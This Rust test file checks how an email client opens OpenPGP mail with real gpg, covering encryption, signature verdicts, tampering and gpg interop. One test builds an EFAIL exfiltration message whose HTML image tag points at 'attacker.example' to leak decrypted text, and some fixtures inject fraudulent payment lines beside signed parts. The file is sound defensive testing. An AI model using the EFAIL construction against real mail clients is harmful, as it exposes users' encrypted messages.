//! Whole OpenPGP messages opened as the pane opens them (`crypto::open`), made with the real
//! `gpg`: PGP/MIME encrypted and signed (RFC 3156, in one step and as a signed entity inside
//! the encryption), detached signatures with every verdict (verified, does not match,
//! untrusted, unknown, not the sender), inline armour and clear-signed text, the mixed-parts
//! shape, a signature over one part only, a message for another key and a tampered one. Each
//! result is checked against the text that went in.

use sealmail::crypto::open::{self, CryptoSettings, FailureKind};
use sealmail::crypto::verdict::{Scope, SignatureStatus};

use super::openpgp::Home;

const ENTITY: &[u8] =
    b"Content-Type: text/plain; charset=utf-8\r\n\r\nThe numbers for Q4 are attached in words: forty-two.\r\n";
const SECRET_LINE: &str = "The numbers for Q4 are attached in words: forty-two.";

/// Alice reads; Bob's key she certified, Carol's she only imported, Dave's she lacks, and
/// Mallory's she certified too (a trusted key of someone who is not the sender).
struct People {
    _dir: tempfile::TempDir,
    alice: Home,
    bob: Home,
    carol: Home,
    dave: Home,
    mallory: Home,
}

fn fingerprint(home: &Home, who: &str) -> String {
    let listing = home.gpg(&["--with-colons", "--list-keys", who], b"");
    String::from_utf8_lossy(&listing)
        .lines()
        .find_map(|l| l.strip_prefix("fpr:"))
        .map(|rest| rest.trim_matches(':').to_owned())
        .expect("a fingerprint")
}

fn people() -> People {
    let dir = tempfile::tempdir().unwrap();
    let alice = Home::new(dir.path(), "alice", "Alice <alice@example.test>");
    let bob = Home::new(dir.path(), "bob", "Bob <bob@example.test>");
    let carol = Home::new(dir.path(), "carol", "Carol <carol@example.test>");
    let dave = Home::new(dir.path(), "dave", "Dave <dave@example.test>");
    let mallory = Home::new(dir.path(), "mallory", "Mallory <mallory@other.test>");
    let alice_public = alice.gpg(&["--armor", "--export", "alice@example.test"], b"");
    for (home, who) in [
        (&bob, "bob@example.test"),
        (&carol, "carol@example.test"),
        (&mallory, "mallory@other.test"),
    ] {
        home.gpg(&["--import"], &alice_public);
        let public = home.gpg(&["--armor", "--export", who], b"");
        alice.gpg(&["--import"], &public);
    }
    dave.gpg(&["--import"], &alice_public);
    for who in ["bob@example.test", "mallory@other.test"] {
        let fpr = fingerprint(&alice, who);
        alice.gpg(&["--quick-lsign-key", &fpr], b"");
    }
    People {
        _dir: dir,
        alice,
        bob,
        carol,
        dave,
        mallory,
    }
}

fn settings(home: &Home) -> CryptoSettings {
    CryptoSettings {
        gpg: home.settings(),
        ..CryptoSettings::default()
    }
}

const HEAD: &str = "From: Bob <bob@example.test>\r\nTo: Alice <alice@example.test>\r\nSubject: Q4\r\nDate: Sat, 05 Dec 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n";

fn encrypted_message(armoured: &[u8]) -> Vec<u8> {
    let mut m = format!(
        "{HEAD}Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"enc\"\r\n\r\n--enc\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--enc\r\nContent-Type: application/octet-stream; name=\"encrypted.asc\"\r\n\r\n"
    )
    .into_bytes();
    m.extend_from_slice(armoured);
    m.extend_from_slice(b"\r\n--enc--\r\n");
    m
}

fn signed_entity(entity: &[u8], signature: &[u8], boundary: &str) -> Vec<u8> {
    let mut m = format!(
        "Content-Type: multipart/signed; micalg=pgp-sha256; protocol=\"application/pgp-signature\"; boundary=\"{boundary}\"\r\n\r\n--{boundary}\r\n"
    )
    .into_bytes();
    m.extend_from_slice(entity);
    m.extend_from_slice(
        format!("\r\n--{boundary}\r\nContent-Type: application/pgp-signature; name=\"signature.asc\"\r\n\r\n").as_bytes(),
    );
    m.extend_from_slice(signature);
    m.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    m
}

fn signed_message(signer: &Home, entity: &[u8]) -> Vec<u8> {
    let signature = signer.gpg(&["--armor", "--detach-sign"], entity);
    let mut m = HEAD.as_bytes().to_vec();
    m.extend_from_slice(&signed_entity(entity, &signature, "sig"));
    m
}

use super::fixtures::{body_text, only_signature};

#[test]
fn pgp_mime_encrypted_mail_opens_with_its_verdict() {
    let p = people();
    let alice = settings(&p.alice);

    // Signed and encrypted in one step.
    let armoured = p.bob.gpg(
        &["--armor", "--sign", "--encrypt", "-r", "alice@example.test"],
        ENTITY,
    );
    let opened = open::open(&encrypted_message(&armoured), &alice).expect("opened");
    assert!(body_text(&opened).contains(SECRET_LINE));
    assert_eq!(opened.view.subject.to_string(), "Q4");
    let encryption = opened.report.encryption.as_ref().expect("encrypted");
    assert!(encryption.integrity);
    assert_eq!(
        only_signature(&opened),
        &SignatureStatus::Verified {
            signer: "bob@example.test".into()
        }
    );
    assert_eq!(opened.report.scope, Scope::Whole);

    // RFC 3156 §6.1: a signed entity inside the encryption.
    let signature = p.bob.gpg(&["--armor", "--detach-sign"], ENTITY);
    let inner = signed_entity(ENTITY, &signature, "inner");
    let armoured = p.bob.gpg(
        &["--armor", "--encrypt", "-r", "alice@example.test"],
        &inner,
    );
    let opened = open::open(&encrypted_message(&armoured), &alice).expect("opened");
    assert!(body_text(&opened).contains(SECRET_LINE));
    assert!(opened.report.encryption.is_some());
    assert_eq!(
        only_signature(&opened),
        &SignatureStatus::Verified {
            signer: "bob@example.test".into()
        }
    );
    assert!(
        opened.view.attachments.is_empty(),
        "the signature is not an attachment"
    );

    // Encrypted, not signed.
    let armoured = p.bob.gpg(
        &["--armor", "--encrypt", "-r", "alice@example.test"],
        ENTITY,
    );
    let opened = open::open(&encrypted_message(&armoured), &alice).expect("opened");
    assert!(opened.report.signatures.is_empty());

    // For Dave only: Alice has no key for it; nothing shown, the reason named.
    let for_dave = p
        .dave
        .gpg(&["--armor", "--encrypt", "-r", "dave@example.test"], ENTITY);
    let failure = open::open(&encrypted_message(&for_dave), &alice).unwrap_err();
    assert_eq!(failure.kind, FailureKind::NoKey, "{failure:?}");

    // Tampered in transit: refused.
    let binary = p
        .bob
        .gpg(&["--encrypt", "-r", "alice@example.test"], ENTITY);
    let mut tampered = binary.clone();
    let at = tampered.len() - 20;
    tampered[at] ^= 0x40;
    let armour = |bytes: &[u8]| {
        let mut out = b"-----BEGIN PGP MESSAGE-----\r\n\r\n".to_vec();
        let encoded = base64_lines(bytes);
        out.extend_from_slice(encoded.as_bytes());
        out.extend_from_slice(b"-----END PGP MESSAGE-----\r\n");
        out
    };
    let failure = open::open(&encrypted_message(&armour(&tampered)), &alice).unwrap_err();
    assert!(
        matches!(failure.kind, FailureKind::Tampered | FailureKind::Damaged),
        "{failure:?}"
    );
    // The same bytes untouched open, so it was the change that was refused.
    assert!(open::open(&encrypted_message(&armour(&binary)), &alice).is_ok());
}

fn base64_lines(bytes: &[u8]) -> String {
    use base64::Engine as _;
    let encoded = base64::engine::general_purpose::STANDARD.encode(bytes);
    let mut out = String::new();
    for chunk in encoded.as_bytes().chunks(64) {
        out.push_str(std::str::from_utf8(chunk).unwrap());
        out.push_str("\r\n");
    }
    out
}

#[test]
fn detached_signatures_get_the_verdict_a_person_needs() {
    let p = people();
    let alice = settings(&p.alice);

    let good = signed_message(&p.bob, ENTITY);
    let opened = open::open(&good, &alice).expect("verified");
    assert!(body_text(&opened).contains(SECRET_LINE));
    assert_eq!(
        only_signature(&opened),
        &SignatureStatus::Verified {
            signer: "bob@example.test".into()
        }
    );
    assert!(opened.report.encryption.is_none());

    // Stored with bare LF line ends (as a Maildir may keep it): still the same signed bytes.
    let lf: Vec<u8> = String::from_utf8(good.clone())
        .unwrap()
        .replace("\r\n", "\n")
        .into_bytes();
    let opened = open::open(&lf, &alice).expect("verified");
    assert!(only_signature(&opened).is_verified(), "{:?}", opened.report);

    // One word changed after signing.
    let altered = String::from_utf8(good.clone())
        .unwrap()
        .replace("forty-two", "forty-three")
        .into_bytes();
    let opened = open::open(&altered, &alice).expect("read");
    assert_eq!(only_signature(&opened), &SignatureStatus::Bad);

    // Carol's key is known but not certified; Dave's is not known at all.
    let opened = open::open(&signed_message(&p.carol, ENTITY), &alice).expect("read");
    assert!(
        matches!(only_signature(&opened), SignatureStatus::Untrusted { signer: Some(s) } if s == "carol@example.test"),
        "{:?}",
        opened.report
    );
    let opened = open::open(&signed_message(&p.dave, ENTITY), &alice).expect("read");
    assert_eq!(
        only_signature(&opened),
        &SignatureStatus::Untrusted { signer: None }
    );
    assert_eq!(
        only_signature(&opened).words(),
        "signed by an unknown or untrusted key"
    );

    // A trusted key, but not the sender's: From says Bob, Mallory signed.
    let opened = open::open(&signed_message(&p.mallory, ENTITY), &alice).expect("read");
    assert_eq!(
        only_signature(&opened).words(),
        "signed, but by mallory@other.test, not the sender"
    );
}

#[test]
fn a_signature_on_one_part_and_plain_parts_beside_encrypted_ones_are_said_so() {
    let p = people();
    let alice = settings(&p.alice);

    // A plain part added beside an encrypted one (the EFAIL direct-exfiltration shape):
    // only the encrypted part is shown.
    let armoured = p.bob.gpg(
        &["--armor", "--encrypt", "-r", "alice@example.test"],
        ENTITY,
    );
    let inner = encrypted_message(&armoured);
    let inner_entity = &inner[HEAD.len()..];
    let mut mixed = format!(
        "{HEAD}Content-Type: multipart/mixed; boundary=\"outer\"\r\n\r\n--outer\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/?\r\n--outer\r\n"
    )
    .into_bytes();
    mixed.extend_from_slice(inner_entity);
    mixed.extend_from_slice(b"\r\n--outer\r\nContent-Type: text/html\r\n\r\n\">\r\n--outer--\r\n");
    let opened = open::open(&mixed, &alice).expect("opened");
    let text = body_text(&opened);
    assert!(text.contains(SECRET_LINE));
    assert!(!text.contains("attacker"), "{text}");
    assert!(
        matches!(&opened.report.scope, Scope::EncryptedPartOnly { part } if part.starts_with("part 2")),
        "{:?}",
        opened.report.scope
    );

    // A signed part beside an unsigned one: the signature covers that part only.
    let signature = p.bob.gpg(&["--armor", "--detach-sign"], ENTITY);
    let mut partly = format!(
        "{HEAD}Content-Type: multipart/mixed; boundary=\"outer\"\r\n\r\n--outer\r\nContent-Type: text/plain\r\n\r\nPay the invoice to account 666.\r\n--outer\r\n"
    )
    .into_bytes();
    partly.extend_from_slice(&signed_entity(ENTITY, &signature, "sig"));
    partly.extend_from_slice(b"\r\n--outer--\r\n");
    let opened = open::open(&partly, &alice).expect("read");
    assert!(only_signature(&opened).is_verified());
    let scope = opened
        .report
        .scope
        .words()
        .expect("a partial signature is said so");
    assert!(
        scope.starts_with("signed content is only part of the message: part 2 (multipart/signed)"),
        "{scope}"
    );
}

#[test]
fn inline_armour_and_clear_signed_text_open() {
    let p = people();
    let alice = settings(&p.alice);
    let text = format!("{SECRET_LINE}\n");

    let armoured = p.bob.gpg(
        &["--armor", "--sign", "--encrypt", "-r", "alice@example.test"],
        text.as_bytes(),
    );
    let mut message = format!("{HEAD}Content-Type: text/plain\r\n\r\n").into_bytes();
    message.extend_from_slice(&armoured);
    let opened = open::open(&message, &alice).expect("opened");
    assert!(body_text(&opened).contains(SECRET_LINE));
    assert!(opened.report.encryption.is_some());
    assert!(only_signature(&opened).is_verified());
    assert_eq!(opened.report.scope, Scope::Whole);

    // Text around the armour is not covered: said so, and not shown.
    let mut around =
        format!("{HEAD}Content-Type: text/plain\r\n\r\nAlso wire the money today.\r\n")
            .into_bytes();
    around.extend_from_slice(&armoured);
    let opened = open::open(&around, &alice).expect("opened");
    assert!(!body_text(&opened).contains("wire the money"));
    assert!(matches!(
        opened.report.scope,
        Scope::EncryptedPartOnly { .. }
    ));

    let clear = p.bob.gpg(&["--clearsign"], text.as_bytes());
    let mut message = format!("{HEAD}Content-Type: text/plain\r\n\r\n").into_bytes();
    message.extend_from_slice(&clear);
    let opened = open::open(&message, &alice).expect("verified");
    assert!(body_text(&opened).contains(SECRET_LINE));
    assert!(opened.report.encryption.is_none());
    assert_eq!(
        only_signature(&opened),
        &SignatureStatus::Verified {
            signer: "bob@example.test".into()
        }
    );

    let forged = String::from_utf8(message)
        .unwrap()
        .replace("forty-two", "forty-three")
        .into_bytes();
    let opened = open::open(&forged, &alice).expect("read");
    assert_eq!(only_signature(&opened), &SignatureStatus::Bad);
}

/// What sealmail signs and encrypts is read by gpg itself: Bob decrypts Alice's encrypted
/// message and checks her signature, and verifies her signed one with `gpg --verify`; the
/// Sent copy is encrypted to Alice too, and sealmail reads it back.
#[test]
fn what_sealmail_signs_and_encrypts_gpg_reads() {
    use sealmail::mail::outgoing::{Outgoing, Protect};
    let p = people();
    let bob_key = p.bob.gpg(&["--armor", "--export", "bob@example.test"], b"");
    p.alice.gpg(&["--import"], &bob_key);
    let message = Outgoing {
        from: "Alice <alice@example.test>".into(),
        to: vec!["Bob <bob@example.test>".into()],
        subject: "Keys".into(),
        body: zeroize::Zeroizing::new("The vault code is 7741.\n".into()),
        ..Outgoing::default()
    };
    let protect = |encrypt| Protect {
        label: "OpenPGP",
        encrypt,
        engine: std::sync::Arc::new(sealmail::crypto::produce::OpenPgpProtector(
            p.alice.settings(),
        )),
    };
    let built = sealmail::submit::build(&message, std::time::SystemTime::now()).unwrap();
    let sent = sealmail::submit::protect::protect(built, false, &protect(true)).expect("encrypted");
    let text = String::from_utf8_lossy(&sent.sent).into_owned();
    assert!(!text.contains("vault code"), "the text left in clear");
    assert!(text.contains("Subject: Keys"), "{text}");
    assert!(text.contains("multipart/encrypted"), "{text}");
    let armour_at = text.find("-----BEGIN PGP MESSAGE-----").expect("armour");
    let armour_end = text.find("-----END PGP MESSAGE-----").expect("armour end") + 25;
    let armoured = &text[armour_at..armour_end];
    // Bob's own gpg: the entity, and Alice's good signature.
    let out = std::process::Command::new("gpg")
        .args(["--batch", "--status-fd", "2", "--decrypt"])
        .env("GNUPGHOME", &p.bob.0)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .and_then(|mut child| {
            use std::io::Write;
            child.stdin.take().unwrap().write_all(armoured.as_bytes())?;
            child.wait_with_output()
        })
        .unwrap();
    let plain = String::from_utf8_lossy(&out.stdout);
    let status = String::from_utf8_lossy(&out.stderr);
    assert!(
        plain.contains("The vault code is 7741."),
        "{plain}\n{status}"
    );
    assert!(plain.starts_with("Content-Type: text/plain"), "{plain}");
    assert!(status.contains("[GNUPG:] GOODSIG"), "{status}");
    // The Sent copy: encrypted to Alice as well, and read back by sealmail.
    let opened = open::open(&sent.sent_copy, &settings(&p.alice)).expect("the copy opens");
    assert!(body_text(&opened).contains("The vault code is 7741."));
    assert!(opened.report.encryption.is_some());

    // Signed only: gpg --verify over the first part, byte for byte.
    let built = sealmail::submit::build(&message, std::time::SystemTime::now()).unwrap();
    let signed = sealmail::submit::protect::protect(built, false, &protect(false)).expect("signed");
    let raw = signed.sent.to_vec();
    let text = String::from_utf8_lossy(&raw).into_owned();
    assert!(text.contains("multipart/signed; micalg=pgp-sha"), "{text}");
    let boundary = text
        .split("boundary=\"")
        .nth(1)
        .and_then(|b| b.split('"').next())
        .unwrap()
        .to_owned();
    let delimiter = format!("\r\n--{boundary}\r\n");
    let first = text.find(&format!("--{boundary}\r\n")).unwrap() + boundary.len() + 4;
    let second = text[first..].find(&delimiter).unwrap() + first;
    let data = &raw[first..second];
    let sig_start = text.find("-----BEGIN PGP SIGNATURE-----").unwrap();
    let sig_end = text.find("-----END PGP SIGNATURE-----").unwrap() + 27;
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("data"), data).unwrap();
    std::fs::write(dir.path().join("data.asc"), &text[sig_start..sig_end]).unwrap();
    let verified = std::process::Command::new("gpg")
        .args([
            "--batch",
            "--status-fd",
            "1",
            "--verify",
            "data.asc",
            "data",
        ])
        .current_dir(dir.path())
        .env("GNUPGHOME", &p.bob.0)
        .output()
        .unwrap();
    let status = String::from_utf8_lossy(&verified.stdout);
    assert!(status.contains("[GNUPG:] GOODSIG"), "{status}");
    // And sealmail's own reading of it: verified, Alice the sender.
    let opened = open::open(&raw, &settings(&p.bob)).expect("read");
    assert!(body_text(&opened).contains("The vault code is 7741."));

    // A recipient without a key: nothing is made, the reason named.
    let stranger = Outgoing {
        to: vec!["zed@example.test".into()],
        ..message.clone()
    };
    let built = sealmail::submit::build(&stranger, std::time::SystemTime::now()).unwrap();
    let refused = sealmail::submit::protect::protect(built, false, &protect(true)).unwrap_err();
    assert!(
        refused.to_string().contains("zed@example.test"),
        "{refused}"
    );
    // A Bcc with encryption is refused before gpg runs.
    let built = sealmail::submit::build(&message, std::time::SystemTime::now()).unwrap();
    assert!(sealmail::submit::protect::protect(built, true, &protect(true)).is_err());
}
